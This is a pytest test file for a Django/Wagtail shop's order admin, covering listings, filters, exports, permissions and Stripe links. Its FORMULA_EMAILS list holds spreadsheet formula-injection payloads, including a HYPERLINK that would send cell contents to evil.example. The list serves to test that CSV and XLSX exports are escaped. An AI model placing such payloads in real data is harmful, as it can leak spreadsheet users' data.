"""Shop managers find, inspect and export orders in the Wagtail admin; nobody edits them by hand."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group, Permission, User
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import NoReverseMatch, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.permissions import policy_registry

from orders.models import Order, OrderItem, StripeEvent
from orders.tests.factories import make_order

pytestmark = pytest.mark.django_db

Status = Order.Status
INDEX_URL = "/admin/orders/"
PANEL = 'id="shop-orders-section"'
DENIED = "Sorry, you do not have permission to access this area."


def login(client, user):
    client.force_login(user)
    return client


def staff_member(username: str, group: str) -> User:
    user = User.objects.create_user(username, f"{username}@example.com", "pw")
    user.groups.add(Group.objects.get(name=group))
    return user


@pytest.fixture
def manager(seeded_shop):
    return staff_member("margaret", "Shop managers")


@pytest.fixture
def manager_client(client, manager):
    return login(client, manager)


@pytest.fixture
def editor_client(client, seeded_shop):
    return login(client, staff_member("edith", "Editors"))


@pytest.fixture
def superuser_client(client):
    return login(client, User.objects.create_superuser("root", "root@example.com", "pw"))


def order_url(order: Order) -> str:
    return reverse("orders:inspect", args=[order.pk])


def created_days_ago(order: Order, days: int) -> Order:
    Order.objects.filter(pk=order.pk).update(created_at=timezone.now() - timedelta(days=days))
    order.refresh_from_db()
    return order


def references_in(content: bytes, *orders: Order) -> list[str]:
    """The given orders' references in the order they appear on the page."""
    text = content.decode()
    found = [order.reference for order in orders if order.reference in text]
    return sorted(found, key=text.index)


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_listing_shows_newest_orders_first_with_status_total_email_and_item_count(
    manager_client,
):
    older = created_days_ago(make_order(customer_email="old@example.com"), 3)
    newer = make_order(status=Status.PAID, total="42.50", customer_email="new@example.com")
    OrderItem.objects.create(order=newer, product_name="Cable", unit_price=1, quantity=3)

    response = manager_client.get(INDEX_URL)

    assert response.status_code == 200
    assert references_in(response.content, older, newer) == [newer.reference, older.reference]
    rows = {order.reference: order for order in response.context["object_list"]}
    assert rows[newer.reference].unit_count == 4
    assert rows[older.reference].unit_count == 1
    page = response.content.decode()
    assert "$42.50" in page and "new@example.com" in page and "Paid" in page


def test_listing_query_count_does_not_grow_with_the_number_of_orders(manager_client):
    make_order()
    manager_client.get(INDEX_URL)
    with CaptureQueriesContext(connection) as few:
        manager_client.get(INDEX_URL)
    for _ in range(6):
        make_order(owner_key="session:another-shopper", checkout_open=False)

    with CaptureQueriesContext(connection) as many:
        response = manager_client.get(INDEX_URL)

    assert len(response.context["object_list"]) == 7
    assert len(many) == len(few)


def test_status_filter_lists_only_orders_in_that_status(manager_client):
    paid = make_order(status=Status.PAID)
    pending = make_order(owner_key="session:someone-else")

    response = manager_client.get(INDEX_URL, {"status": "paid"})

    assert references_in(response.content, paid, pending) == [paid.reference]


def test_created_date_range_filter_leaves_out_older_orders(manager_client):
    recent = created_days_ago(make_order(), 1)
    old = created_days_ago(make_order(owner_key="session:someone-else"), 10)
    since = (timezone.localdate() - timedelta(days=3)).isoformat()

    response = manager_client.get(INDEX_URL, {"created_at_from": since})

    assert references_in(response.content, recent, old) == [recent.reference]


def test_pending_for_over_an_hour_filter_finds_stuck_checkouts(manager_client):
    stuck = make_order()
    Order.objects.filter(pk=stuck.pk).update(created_at=timezone.now() - timedelta(hours=2))
    fresh = make_order(owner_key="session:someone-else")

    response = manager_client.get(INDEX_URL, {"stale": "true"})

    assert references_in(response.content, stuck, fresh) == [stuck.reference]


@pytest.mark.parametrize(
    "query",
    ["reference", "customer_email", "stripe_checkout_session_id", "stripe_payment_intent_id"],
)
def test_search_finds_an_order_by_reference_email_or_stripe_ids(manager_client, query):
    wanted = make_order(
        status=Status.PAID,
        customer_email="ada@example.com",
        session_id="cs_test_wanted",
        payment_intent_id="pi_wanted",
    )
    other = make_order(
        owner_key="session:someone-else",
        customer_email="grace@example.com",
        session_id="cs_test_other",
        payment_intent_id="pi_other",
    )

    response = manager_client.get(INDEX_URL, {"q": getattr(wanted, query)})

    assert references_in(response.content, wanted, other) == [wanted.reference]


def test_csv_export_holds_exactly_the_filtered_orders(manager_client):
    paid = make_order(status=Status.PAID, total="42.50", payment_intent_id="pi_paid")
    make_order(owner_key="session:someone-else")

    response = manager_client.get(INDEX_URL, {"status": "paid", "export": "csv"})

    assert response["Content-Disposition"] == 'attachment; filename="orders.csv"'
    header, *rows = csv_rows(response)
    assert header == [
        "Reference",
        "Status",
        "Total",
        "Amount refunded",
        "Customer email",
        "Created",
        "Paid",
        "Stripe Checkout Session",
        "Stripe PaymentIntent",
    ]
    assert len(rows) == 1
    assert rows[0][:5] == [paid.reference, "Paid", "42.50", "0.00", "shopper@example.com"]
    assert rows[0][7:] == [paid.stripe_checkout_session_id, "pi_paid"]


def test_xlsx_export_holds_the_searched_orders(manager_client):
    wanted = make_order(customer_email="ada@example.com")
    make_order(owner_key="session:someone-else", customer_email="grace@example.com")

    response = manager_client.get(INDEX_URL, {"q": "ada@", "export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert [row[0] for row in rows] == ["Reference", wanted.reference]
    assert rows[1][4] == "ada@example.com"


def test_order_page_shows_items_amounts_stripe_links_and_event_timeline(manager_client, settings):
    settings.STRIPE_API_BASE = ""
    order = make_order(
        status=Status.PAID,
        total="60.00",
        amount_refunded=Decimal("10.00"),
        payment_intent_id="pi_timeline",
    )
    OrderItem.objects.create(order=order, product_name="Travel Adapter", unit_price=5, quantity=2)
    for number, outcome in enumerate([StripeEvent.Outcome.PROCESSED, StripeEvent.Outcome.FAILED]):
        StripeEvent.objects.create(
            stripe_event_id=f"evt_timeline_{number}",
            type=["checkout.session.completed", "charge.refunded"][number],
            order=order,
            outcome=outcome,
            payload={},
            delivery_count=number + 1,
        )

    response = manager_client.get(order_url(order))

    page = response.content.decode()
    assert "Portable Power Bank" in page and "Travel Adapter" in page and "$10.00" in page
    assert "$60.00" in page
    assert (
        f"https://dashboard.stripe.com/test/checkout/sessions/{order.stripe_checkout_session_id}"
        in page
    )
    assert "https://dashboard.stripe.com/test/payments/pi_timeline" in page
    assert page.index("evt_timeline_0") < page.index("evt_timeline_1")
    timeline = page[page.index("data-order-events") :]
    assert "checkout.session.completed" in timeline and "Processed" in timeline
    assert "charge.refunded" in timeline and "Failed" in timeline


def test_order_page_links_to_the_live_dashboard_with_live_keys(manager_client, settings):
    settings.STRIPE_SECRET_KEY = "sk_live_shop"
    settings.STRIPE_API_BASE = ""
    order = make_order(status=Status.PAID, payment_intent_id="pi_live")

    page = manager_client.get(order_url(order)).content.decode()

    assert "https://dashboard.stripe.com/payments/pi_live" in page
    assert "dashboard.stripe.com/test/" not in page


def test_refund_button_appears_only_on_paid_orders(manager_client):
    paid = make_order(status=Status.PAID, payment_intent_id="pi_paid")
    pending = make_order(owner_key="session:someone-else")

    assert (
        reverse("orders:refund", args=[paid.pk])
        in manager_client.get(order_url(paid)).content.decode()
    )
    assert (
        reverse("orders:refund", args=[pending.pk])
        not in manager_client.get(order_url(pending)).content.decode()
    )


def test_staff_who_may_only_view_orders_get_no_refund_button(client, seeded_shop):
    viewer = User.objects.create_user("victor", "victor@example.com", "pw")
    viewer.user_permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_order"),
    )
    order = make_order(status=Status.PAID, payment_intent_id="pi_paid")

    page = login(client, viewer).get(order_url(order))

    assert page.status_code == 200
    assert reverse("orders:refund", args=[order.pk]) not in page.content.decode()


def test_editors_see_no_orders_menu_and_are_turned_away_from_orders(editor_client):
    order = make_order()

    home = editor_client.get("/admin/")
    assert INDEX_URL not in home.content.decode()
    for url in [INDEX_URL, order_url(order), reverse("orders:refund", args=[order.pk])]:
        response = editor_client.get(url, follow=True)
        assert response.redirect_chain == [("/admin/", 302)]
        assert DENIED in response.content.decode()
        assert editor_client.get(url, HTTP_X_REQUESTED_WITH="XMLHttpRequest").status_code == 403


def test_shop_managers_see_the_orders_menu(manager_client):
    assert INDEX_URL in manager_client.get("/admin/").content.decode()


@pytest.mark.parametrize("path", ["new/", "edit/{pk}/", "delete/{pk}/", "copy/{pk}/"])
def test_nobody_can_add_edit_or_delete_an_order_not_even_a_superuser(superuser_client, path):
    order = make_order()

    url = INDEX_URL + path.format(pk=order.pk)

    assert superuser_client.get(url).status_code == 404
    assert superuser_client.post(url, {"status": "paid"}).status_code == 404
    order.refresh_from_db()
    assert order.status == Status.PENDING


def test_order_permission_policy_refuses_editing_to_everyone(manager):
    superuser = User.objects.create_superuser("root", "root@example.com", "pw")
    policy = policy_registry.get_by_type(Order)

    for user in (superuser, manager):
        assert policy.user_has_permission(user, "view")
        assert policy.user_has_permission(user, "refund")
        assert not policy.user_has_any_permission(user, ["add", "change", "delete"])
    assert set(policy.users_with_any_permission(["add", "change", "delete"])) == set()
    with pytest.raises(NoReverseMatch):
        reverse("orders:add")


def test_superuser_listing_offers_no_add_or_edit_links(superuser_client):
    order = make_order()

    page = superuser_client.get(INDEX_URL).content.decode()

    assert order_url(order) in page
    assert "Add order" not in page and f"{INDEX_URL}edit/" not in page


def test_dashboard_shows_todays_sales_stuck_checkouts_and_failed_events(manager_client):
    paid = make_order(status=Status.PAID, total="30.00", paid_at=timezone.now())
    make_order(
        owner_key="session:second",
        status=Status.PAID,
        total="20.00",
        amount_refunded=Decimal("5.00"),
        paid_at=timezone.now(),
    )
    stuck = make_order(owner_key="session:third")
    Order.objects.filter(pk=stuck.pk).update(created_at=timezone.now() - timedelta(hours=3))
    StripeEvent.objects.create(
        stripe_event_id="evt_broken",
        type="charge.refunded",
        order=paid,
        outcome=StripeEvent.Outcome.FAILED,
        detail="Stripe is down",
        payload={},
    )

    page = manager_client.get("/admin/").content.decode()

    panel = page[page.index(PANEL) :]
    today = timezone.localdate().isoformat()
    assert f"{INDEX_URL}?paid_at_from={today}&amp;paid_at_to={today}" in panel
    assert "2 orders" in panel and "$45.00 after refunds" in panel
    assert f"{INDEX_URL}?stale=true" in panel
    assert "1 order" in panel
    assert "1 event" in panel and order_url(paid) in panel and "Stripe is down" in panel
    paid_today = manager_client.get(INDEX_URL, {"paid_at_from": today, "paid_at_to": today})
    assert len(paid_today.context["object_list"]) == 2
    assert list(manager_client.get(INDEX_URL, {"stale": "true"}).context["object_list"]) == [stuck]


def test_dashboard_panel_reads_the_database_in_a_few_queries(manager_client):
    make_order(status=Status.PAID, paid_at=timezone.now())
    manager_client.get("/admin/")
    with CaptureQueriesContext(connection) as with_panel:
        manager_client.get("/admin/")
    Group.objects.get(name="Shop managers").permissions.remove(
        Permission.objects.get(codename="view_order")
    )
    with CaptureQueriesContext(connection) as without_panel:
        page = manager_client.get("/admin/")

    assert PANEL not in page.content.decode()
    assert len(with_panel) - len(without_panel) <= 3


def test_editors_get_no_orders_panel_on_the_dashboard(editor_client):
    assert PANEL not in editor_client.get("/admin/").content.decode()


FORMULA_EMAILS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")@example.com',
    "+1+2@example.com",
    "-1-2@example.com",
    "@SUM(1+1)@example.com",
    "\t=1@example.com",
    "\r=1@example.com",
]


def test_csv_export_shows_formula_like_emails_as_text_not_formulas(manager_client):
    for number, email in enumerate(FORMULA_EMAILS):
        make_order(owner_key=f"session:{number}", customer_email=email)
    make_order(owner_key="session:plain", customer_email="plain@example.com")

    response = manager_client.get(INDEX_URL, {"export": "csv"})

    emails = sorted(row[4] for row in csv_rows(response)[1:])
    assert emails == sorted(["plain@example.com", *(f"'{email}" for email in FORMULA_EMAILS)])


def test_xlsx_export_keeps_formula_like_emails_as_text(manager_client):
    make_order(customer_email=FORMULA_EMAILS[0])

    response = manager_client.get(INDEX_URL, {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    email_cell = list(sheet.iter_rows())[1][4]
    assert (email_cell.value, email_cell.data_type) == (FORMULA_EMAILS[0], "s")


def test_orders_needing_review_are_marked_filtered_explained_and_counted(manager_client):
    flagged = make_order(
        status=Status.PAID,
        total="199.99",
        paid_at=timezone.now(),
        charged_currency="eur",
        charged_total=1,
        review_reasons="Stripe charged in EUR, but the order is in USD.",
    )
    fine = make_order(owner_key="session:fine", status=Status.PAID, paid_at=timezone.now())

    listing = manager_client.get(INDEX_URL)
    needing_review = manager_client.get(INDEX_URL, {"needs_review": "true"})
    order_page = manager_client.get(order_url(flagged)).content.decode()
    panel = manager_client.get("/admin/").content.decode()
    panel = panel[panel.index(PANEL) :]

    rows = listing.content.decode().split("<tr")
    [flagged_row] = [row for row in rows if flagged.reference in row]
    [fine_row] = [row for row in rows if fine.reference in row]
    assert "Needs review" in flagged_row and "Needs review" not in fine_row
    assert references_in(needing_review.content, flagged, fine) == [flagged.reference]
    assert "Needs review." in order_page
    assert "Stripe charged in EUR, but the order is in USD." in order_page
    assert "1 in EUR (smallest units)" in order_page
    assert f"{INDEX_URL}?needs_review=true" in panel
    review_row = panel[panel.index("Needs review") :]
    assert review_row.index("1 order") < review_row.index("</tr>")
